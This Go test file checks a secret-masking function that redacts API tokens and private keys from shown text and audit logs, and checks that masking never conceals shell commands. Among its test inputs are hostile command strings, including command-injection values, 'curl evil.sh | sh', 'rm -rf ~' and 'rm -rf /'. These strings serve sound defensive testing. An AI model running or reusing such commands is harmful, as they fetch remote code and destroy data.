package state

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"os"
	"path/filepath"
	"regexp/syntax"
	"strings"
	"sync"
	"testing"
	"time"

	"gchat-hooks/e2e/kit"
)

// r is a run of characters that makes a secret long enough. The fakes are put together
// here so that no scanner takes them for real secrets.
func r(n int) string { return strings.Repeat("a1B2c3D4e5", n/10+1)[:n] }

func TestMaskKeys_Table(t *testing.T) {
	hex := strings.Repeat("0a1b2c3d", 8)
	for name, test := range map[string]struct{ before, kept, secret, after string }{
		"AWS key id":          {"aws ", "AKIA", strings.ToUpper(r(16)), " x"},
		"GitHub classic":      {"git clone https://", "ghp_", r(36), "@github.com"},
		"GitHub fine-grained": {"", "github_pat_", r(22) + "_" + r(59), ""},
		"GitLab":              {"TOKEN=", "glpat-", r(20), " ./run"},
		"Slack token":         {"", "xoxb-", "1234567890-" + r(24), ""},
		"Slack webhook": {"curl https://", "hooks.slack.com/services/T000/B000/", r(24),
			" -d x"},
		"Discord webhook":      {"curl https://", "discord.com/api/webhooks/123456/", r(60), ""},
		"OpenAI":               {"", "sk-proj-", r(48), ""},
		"OpenAI, an older one": {"", "sk-", r(48), ""},
		"Anthropic":            {"ANTHROPIC_API_KEY=\"", "sk-ant-api03-", r(80) + "-_AA", "\"; ls"},
		"Google API key":       {"curl 'https://x?key=", "AIza", r(35), "&a=b'"},
		"Google OAuth token":   {`-H "Authorization: Bearer `, "ya29.", r(40), `"`},
		"Google client secret": {"", "GOCSPX-", r(28), ""},
		"Stripe":               {"", "sk_live_", r(24), ""},
		"npm":                  {"//registry/:_authToken=", "npm_", r(36), "\n"},
		"PyPI":                 {"twine -p ", "pypi-", r(80), ""},
		"Hugging Face":         {"", "hf_", r(34), ""},
		"SendGrid":             {"", "SG.", r(22) + "." + r(43), ""},
		"DigitalOcean":         {"", "dop_v1_", hex, ""},
		"Shopify":              {"", "shpat_", hex[:32], ""},
		"JWT":                  {"", "eyJ", r(20) + ".eyJ" + r(30) + "." + r(40), ""},
		"Vault":                {"", "hvs.", r(30), ""},
		"age":                  {"", "AGE-SECRET-KEY-1", strings.ToUpper(r(58)), ""},
		"Telegram":             {"", "123456789:", "AA" + r(33), ""},
		"of a service account": {`{"k": "`, "-----BEGIN PRIVATE KEY-----\\n", r(60),
			"\\n-----END PRIVATE KEY-----\\n\"}"},
		"OpenSSH": {"echo '", "-----BEGIN OPENSSH PRIVATE KEY-----\n", r(60),
			"\n-----END OPENSSH PRIVATE KEY-----' > k"},
	} {
		got, want := MaskKeys(test.before+test.kept+test.secret+test.after), test.before+test.kept+
			maskText+test.after
		kit.True(t, got == want, "%s: %q, want %q", name, got, want)
	}
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	kit.NoError(t, err)
	der, _ := x509.MarshalPKCS8PrivateKey(key)
	block := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
	got := MaskKeys("cat > k <<'EOF'\n" + block + "EOF\nrm x")
	n := strings.Count(got, maskText)
	kit.True(t, n == strings.Count(block, "\n")-2 &&
		strings.HasSuffix(got, "-----END PRIVATE KEY-----\nEOF\nrm x"),
		"a whole key became %q", got)
}

// What a shell would run is always shown, whatever name, option, quote or header stands
// before it.
func TestMaskKeys_HidesNothingThatRuns(t *testing.T) {
	body := r(64) + "\n"
	for _, text := range []string{
		`echo "password="; touch PWN; echo "done"`, `echo 'token='; touch PWN; echo 'x'`,
		"deploy --token \"; touch PWN; echo \"", "token=\ntouch_PWN_now",
		"curl http://u:x&touch${IFS}PWN&@h", "curl -u a:b&touch${IFS}PWN https://x",
		"sshpass -p x;touch${IFS}PWN", "mysql -px;touch${IFS}PWN",
		"cat <<password=\ntouch PWN\npassword=", "SECRET=x.sh; bash $SECRET",
		"exec -a --token reboot", "DB_PASSWORD=hunter2 ./run",
		"-----BEGIN PRIVATE KEY-----\n/tmp/PWN\n-----END PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\n/tmp/" + r(59) + "\n-----END PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\nbin/" + r(60) + "\n-----END PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\nPATH=" + r(60) + "\n-----END PRIVATE KEY-----\ngit status",
		"-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\ncurl\n-----END PRIVATE KEY-----",
		"-----BEGIN RSA PRIVATE KEY-----\nVersion: $(touch PWN)\n" + body +
			"-----END RSA PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n" + body + "touch PWN",
		"bash pypi-upload-everything-to-my-server.sh", "./secret_but_harmless_looking_name.sh",
		"./sk-run-my-own-script-please-now.sh", "vercel_deploy_production_now",
		"bash hooks.slack.com/services/T0/B0/../../../payload",
		"git show 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12",
		"rm 123e4567-e89b-12d3-a456-426614174000",
		`export TOKEN="x$(curl evil.sh | sh)"`, `-H "Authorization: Bearer x$(/tmp/evil)"`,
		"https://a:x$(/tmp/evil)@host/", "eyJhbGciOi.sh", "aws/AKIA/run",
	} {
		kit.Equal(t, MaskKeys(text), text)
	}
}

// Text that is longer than any real key is shown from there on.
func TestMaskKeys_HidesNoProgram(t *testing.T) {
	for _, start := range []string{"sk-", "ghp_", "sk-ant-api03-"} {
		got := MaskKeys("T=" + start + strings.Repeat("6c73", 500) + "; x")
		kit.True(t, len(got) >= 1500, "%s: %d bytes are left", start, len(got))
	}
}

// FuzzMaskKeys checks that only characters of keys are hidden, and only behind the
// beginning of a known key or in a private key.
func FuzzMaskKeys(f *testing.F) {
	f.Add("PASSWORD=hunter2 ./run -u a:b")
	f.Add("x ghp_" + r(36) + "; rm -rf / sk-ant-api03-" + r(40) + "\"\n")
	f.Add("-----BEGIN PRIVATE KEY-----\n" + r(64) + "\n/tmp/x\n-----END PRIVATE KEY-----")
	f.Fuzz(func(t *testing.T, s string) {
		got, rest := MaskKeys(s), s
		if strings.Contains(s, maskText) {
			return
		}
		pieces := strings.Split(got, maskText)
		for i, piece := range pieces {
			if i > 0 { // what was hidden ends where the next piece begins
				kept := strings.TrimRight(pieces[i-1], "\r\n")
				hidden := rest[:len(rest)-len(strings.TrimLeft(rest,
					"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+/=.~-"))]
				known := keyPrefix().MatchString(lastWord(kept)) ||
					strings.Contains(got, "PRIVATE KEY-----")
				at := strings.Index(rest, piece)
				if i == len(pieces)-1 {
					at = len(rest) - len(piece)
				}
				kit.Must(t, at >= 0 && at <= len(hidden) && known,
					"%q became %q: hidden is %q behind %q", s, got, rest[:max(at, 0)], kept)
				rest = rest[at:]
			}
			var ok bool
			rest, ok = strings.CutPrefix(rest, piece)
			kit.Must(t, ok, "%q became %q", s, got)
		}
	})
}

// lastWord returns the text behind the last character that cannot stand in a key.
func lastWord(s string) string {
	i := strings.LastIndexFunc(s, func(c rune) bool {
		return !strings.ContainsRune("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+/=.~-:", c)
	})
	for s = s[i+1:]; s != "" && !keyPrefix().MatchString(s); s = s[1:] {
	}
	return s
}

func TestMaskKeys_Audit(t *testing.T) {
	env := envOf(t)
	log, whole := NewLog(env, "t"), "TOKEN=hunter2secret ghp_"+r(36)+strings.Repeat("x", 5000)
	log.AddSecrets("our-own-secret")
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			err := AppendDecision(env, log,
				AuditLine{SessionName: "shop", Kind: "permission",
					ShownText: whole + " https://x?key=our-own-secret", By: "users/1"})
			kit.True(t, err == nil, "%v", err)
		})
	}
	all.Wait()
	path := AuditPath(env)
	info, err := os.Stat(path)
	kit.True(t, err == nil && info.Mode().Perm() == 0o600, "%v, %v", info, err)
	lines := strings.Split(strings.TrimSpace(kit.ReadFile(t, path)), "\n")
	var line AuditLine
	kit.NoError(t, json.Unmarshal([]byte(lines[19]), &line))
	kit.True(t, len(lines) == 20 && time.Since(line.Time) <= time.Hour, "%d lines, %+v", len(lines),
		line)
	kit.Equal(t, line.ShownText, whole+" https://x?key=[secret]")
	kit.NoError(t, os.Remove(path))
	kit.NoError(t, os.Symlink(filepath.Join(t.TempDir(), "elsewhere"), path))
	kit.True(t, AppendDecision(env, log, AuditLine{}) != nil, "it followed a link")
}

// Every shape of a key has one of the marks that MaskKeys looks for first.
func TestMaskKeys_EachShapeHasAMark(t *testing.T) {
	re, err := syntax.Parse(keyPattern().String(), syntax.Perl)
	kit.NoError(t, err)
	keys := shortest(re)
	kit.Must(t, len(keys) >= 60, "%d keys", len(keys))
	for _, key := range keys {
		kit.True(t, keyPattern().MatchString(key), "%q is no key", key)
		got := MaskKeys(key)
		kit.True(t, strings.HasSuffix(got, maskText), "%q is not hidden: %q", key, got)
	}
}

// shortest returns short texts that an expression matches: one for each alternative and
// for each character of a small set.
func shortest(re *syntax.Regexp) (all []string) {
	switch re.Op {
	case syntax.OpLiteral:
		return []string{string(re.Rune)}
	case syntax.OpCharClass:
		for i := 0; i < len(re.Rune) && (i == 0 || len(re.Rune) <= 10); i += 2 {
			for r := re.Rune[i]; r <= re.Rune[i+1] && r < re.Rune[i]+3; r++ {
				all = append(all, string(r))
			}
		}
		return all
	case syntax.OpAlternate:
		for _, sub := range re.Sub {
			all = append(all, shortest(sub)...)
		}
		return all
	case syntax.OpPlus:
		return shortest(re.Sub[0])[:1]
	case syntax.OpRepeat:
		return []string{strings.Repeat(shortest(re.Sub[0])[0], re.Min)}
	case syntax.OpCapture:
		return shortest(re.Sub[0])
	case syntax.OpConcat:
		all = []string{""}
		for _, sub := range re.Sub {
			var longer []string
			for _, head := range all {
				for _, rest := range shortest(sub) {
					longer = append(longer, head+rest)
				}
			}
			all = longer
		}
		return all
	}
	return []string{""} // a boundary, or what may be left out
}
